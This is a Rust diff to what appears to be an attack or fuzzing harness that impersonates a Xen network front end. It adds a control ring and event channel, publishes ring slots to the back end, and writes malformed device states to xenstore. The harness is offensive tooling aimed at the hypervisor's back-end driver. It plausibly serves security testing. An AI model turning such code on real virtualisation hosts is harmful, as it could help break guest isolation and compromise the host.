@@ -13,17 +13,19 @@ use crate::store::{Connection, number};
 use crate::sys::Scratch;
 
 /// References of the transmit ring, the receive ring and the data pages; their pages in the scratch memory.
-const FIRST: u64 = 64;
+pub const FIRST: u64 = 64;
 const PAGES: u64 = 128;
-const GRANTED: u64 = 16;
-/// Offsets of the rings in the scratch memory.
-const TX: u64 = PAGES * 4096;
-const RX: u64 = TX + 4096;
+pub const GRANTED: u64 = 16;
+/// Offsets of the rings in the scratch memory; the control ring has the last page.
+pub const TX: u64 = PAGES * 4096;
+pub const RX: u64 = TX + 4096;
+pub const CTRL: u64 = TX + (GRANTED - 1) * 4096;
 
 /// A front end in the hands of the attack.
-struct Front {
+pub struct Front {
     store: Connection,
     port: u64,
+    ctrl_port: u64,
     producer: u32,
 }
 
@@ -31,7 +33,7 @@ struct Front {
 pub fn run(attacker: &mut Attacker) -> u64 {
     let Some(store) = Connection::open() else { return u64::MAX };
     let Some(table) = table(attacker.scratch) else { return u64::MAX - 1 };
-    let mut front = Front { store, port: 0, producer: 0 };
+    let mut front = Front { store, port: 0, ctrl_port: 0, producer: 0 };
     let mut answers = 0;
     for round in 0..3u64 {
         if !front.connect(attacker, table, round) {
@@ -48,7 +50,9 @@ pub fn run(attacker: &mut Attacker) -> u64 {
             front.write(attacker, b"state", state);
             crate::wait(pause);
         }
-        operation(attacker.scratch, EvtchnOp::Close, 0, [front.port, 0, 0]);
+        for port in [front.port, front.ctrl_port] {
+            operation(attacker.scratch, EvtchnOp::Close, 0, [port, 0, 0]);
+        }
         crate::wait(200);
     }
     for state in [&b"0"[..], b"99", b"", b"\xFF", b"3", b"4"] {
@@ -58,6 +62,36 @@ pub fn run(attacker: &mut Attacker) -> u64 {
 }
 
 impl Front {
+    /// A front end that is connected as it should be.
+    pub fn open(attacker: &mut Attacker) -> Option<Self> {
+        let (store, table) = (Connection::open()?, table(attacker.scratch)?);
+        let mut front = Front { store, port: 0, ctrl_port: 0, producer: 0 };
+        front.connect(attacker, table, 0).then_some(front)
+    }
+
+    /// Slots that were put on the transmit ring.
+    pub fn producer(&self) -> u32 {
+        self.producer
+    }
+
+    /// The number of the slot to fill next.
+    pub fn next(&mut self) -> u32 {
+        let next = self.producer;
+        self.producer = next.wrapping_add(1);
+        next
+    }
+
+    /// The port of the control ring.
+    pub fn ctrl_port(&self) -> u64 {
+        self.ctrl_port
+    }
+
+    /// Tells the back end of all slots.
+    pub fn publish(&self, attacker: &Attacker) {
+        attacker.scratch.set32(TX + ring::REQ_PROD as u64, self.producer);
+        notify(attacker, self.port);
+    }
+
     fn write(&self, attacker: &Attacker, key: &[u8], value: &[u8]) -> bool {
         self.store.write(attacker, b"device/vif/0/", key, value)
     }
@@ -89,15 +123,21 @@ impl Front {
             return false;
         }
         self.port = scratch.get(0) >> 32;
+        if operation(scratch, EvtchnOp::AllocUnbound, 0, [0x7FF0, 0, 0]) != 0 {
+            return false;
+        }
+        self.ctrl_port = scratch.get(0) >> 32;
         self.producer = 0;
-        for at in [TX, RX] {
+        for at in [TX, RX, CTRL] {
             scratch.set32(at + ring::REQ_EVENT as u64, 1);
             scratch.set32(at + ring::RSP_EVENT as u64, 1);
         }
-        let (mut port, mut tx, mut rx) = ([0; 5], [0; 5], [0; 5]);
+        let ([mut port, mut tx, mut rx], [mut ctrl, mut ctrl_port]) = ([[0; 5]; 3], [[0; 5]; 2]);
         let written = self.write(attacker, b"tx-ring-ref", number(FIRST, &mut tx))
             && self.write(attacker, b"rx-ring-ref", number(FIRST + 1, &mut rx))
             && self.write(attacker, b"event-channel", number(self.port, &mut port))
+            && self.write(attacker, b"ctrl-ring-ref", number(FIRST + GRANTED - 1, &mut ctrl))
+            && self.write(attacker, b"event-channel-ctrl", number(self.ctrl_port, &mut ctrl_port))
             && self.write(attacker, b"request-rx-copy", b"1")
             && self.write(attacker, b"feature-sg", b"1")
             && self.write(attacker, b"feature-gso-tcpv4", b"1");
@@ -153,7 +193,7 @@ impl Front {
     }
 
     /// Waits until all slots are answered; false if that takes more than half a second.
-    fn settle(&self, attacker: &Attacker) -> bool {
+    pub fn settle(&self, attacker: &Attacker) -> bool {
         for _ in 0..500 {
             if attacker.scratch.get32(TX + ring::RSP_PROD as u64) == self.producer {
                 return true;
